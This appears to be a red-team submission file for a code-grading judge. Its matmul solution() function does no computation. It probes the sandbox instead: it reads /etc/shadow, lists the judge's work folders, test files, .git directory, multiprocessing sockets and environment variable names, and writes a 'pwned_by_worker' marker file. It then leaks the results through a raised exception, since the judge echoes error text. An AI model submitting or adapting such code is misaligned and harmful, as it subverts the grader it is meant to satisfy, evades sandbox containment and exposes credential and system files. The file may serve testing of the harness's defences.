# target: matmul (any). Idea: recon - report from inside the worker what it can see (protections,
# files of the judge, /etc, the repo, the judge's mp socket folder, env). Exfiltrated through the
# runtime_error message (the judge quotes the exception text). Defeats: nothing by itself (recon).
import glob, os, multiprocessing
import triton

def _try(f):
    try:
        return f()
    except Exception as e:
        return f"ERR {type(e).__name__}: {e}"

def solution(a, b):
    info = {}
    info["uid"] = os.getuid()
    info["ppid"] = os.getppid()
    info["procs"] = _try(lambda: sorted(os.listdir("/proc"))[:15])
    info["shadow"] = _try(lambda: open("/etc/shadow").read()[:60])
    info["etc_hostname"] = _try(lambda: open("/etc/hostname").read()[:60])
    info["work"] = _try(lambda: os.listdir("/work"))
    info["work_main"] = _try(lambda: os.listdir("/work/main")[:30])
    info["repo_tests"] = _try(lambda: os.listdir("/tmp/rt/kerneldojo/tests")[:5])
    info["repo_git"] = _try(lambda: os.listdir("/tmp/rt/kerneldojo/.git")[:5])
    info["tmp"] = _try(lambda: os.listdir("/tmp"))
    info["pymp"] = _try(lambda: glob.glob("/tmp/pymp-*/*") + glob.glob("/tmp/*/pymp-*/*"))
    info["cache"] = _try(lambda: os.listdir(os.path.expanduser("~root/.cache")))
    info["authkey_len"] = len(multiprocessing.current_process().authkey)
    info["mountinfo_rw"] = _try(lambda: [l.split()[4] for l in open("/proc/self/mountinfo") if " rw," in l or l.split()[5].startswith("rw")][:40])
    info["env_keys"] = sorted(os.environ)[:60]
    info["write_tmp_rt"] = _try(lambda: open("/tmp/rt/pwned_by_worker", "w").write("x"))
    info["cwd"] = os.getcwd()
    raise RuntimeError(repr(info))
